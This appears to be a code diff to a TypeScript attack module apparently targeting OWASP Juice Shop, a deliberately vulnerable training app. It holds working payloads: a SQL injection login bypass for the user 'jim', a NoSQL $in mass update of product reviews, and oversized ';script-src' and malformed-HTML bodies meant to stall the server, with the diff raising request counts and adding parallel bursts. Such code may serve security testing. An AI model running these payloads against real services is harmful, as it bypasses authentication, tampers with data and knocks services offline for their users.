@@ -10,6 +10,11 @@ function many(text: string, count: number, { scale }: StallTarget): string {
   return text.repeat(Math.round(count * scale));
 }
 
+/** Asks so often at the same time. */
+async function atOnce(ask: () => Promise<unknown>): Promise<void> {
+  await Promise.all(Array.from({ length: 4 }, ask));
+}
+
 async function jim({ url }: StallTarget): Promise<string> {
   return createClient(url).login("jim@juice-sh.op'--", 'x');
 }
@@ -57,13 +62,13 @@ export const patternStalls: readonly Stall[] = [
     harm: 'silence',
     attack: async (target) => {
       const client = createClient(target.url);
-      for (let round = 0; round < 30; round += 1) {
+      for (let round = 0; round < 100; round += 1) {
         const written = Array.from({ length: 8 }, () =>
           client.put('/rest/products/1/reviews', { message: 'x', author: 'me' }),
         );
         await Promise.all(written);
       }
-      const $in = Array.from({ length: 16_000 }, (_, index) => `${index}`);
+      const $in = Array.from({ length: 14_000 }, (_, index) => index.toString(36));
       await client.patch('/rest/products/reviews', { id: { $in }, message: 'x' }, { token: await jim(target) });
     },
   },
@@ -92,7 +97,7 @@ export const patternStalls: readonly Stall[] = [
       const cookie = await jim(target);
       const imageUrl = `imageUrl=${many(';script-src', 8_000, target)}`;
       const client = createClient(target.url);
-      await client.post('/profile/image/url', imageUrl, { headers: form, cookie });
+      await atOnce(() => client.post('/profile/image/url', imageUrl, { headers: form, cookie }));
       await client.get('/profile', { cookie });
     },
   },
@@ -122,7 +127,7 @@ export const patternStalls: readonly Stall[] = [
       const client = createClient(target.url);
       const { captchaId, answer } = (await client.get('/rest/captcha')).json();
       const comment = many('<a></b>', 14_000, target);
-      await client.post('/api/Feedbacks', { comment, rating: 1, captchaId, captcha: answer });
+      await atOnce(() => client.post('/api/Feedbacks', { comment, rating: 1, captchaId, captcha: answer }));
     },
   },
   {
